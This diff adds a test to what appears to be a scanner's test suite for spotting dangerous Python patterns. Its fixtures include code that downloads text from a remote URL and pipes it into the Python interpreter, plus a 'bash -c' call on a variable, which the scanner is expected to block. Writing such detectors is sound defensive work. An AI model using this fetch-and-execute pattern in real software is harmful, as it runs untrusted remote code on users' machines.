@@ -166,3 +166,12 @@ test("a script that an interpreter starts gets data", async () => {
   expect(await found("a.py", code('"bash", "tools/count.sh", name'))).toStrictEqual([]);
   expect(await found("a.py", code('"bash", "-c", name'))).toStrictEqual(["block evaluated_decoded_text:3"]);
 });
+
+test("tells what a program is handed from the program", async () => {
+  const code = (command: string) =>
+    `import json, subprocess, sys, requests\nconf = json.load(open("conf.json"))\nreply = requests.get("https://a.statsbox.net/x").text\nsubprocess.run(${command}, input=reply, text=True)\n`;
+  const hits = async (command: string) =>
+    (await found("a.py", code(command))).filter((one) => one.includes("evaluated_download"));
+  expect(await hits('[conf["bin"], "-d"]')).toEqual([]);
+  expect(await hits("[sys.executable]")).toEqual(["block evaluated_download:4"]);
+});
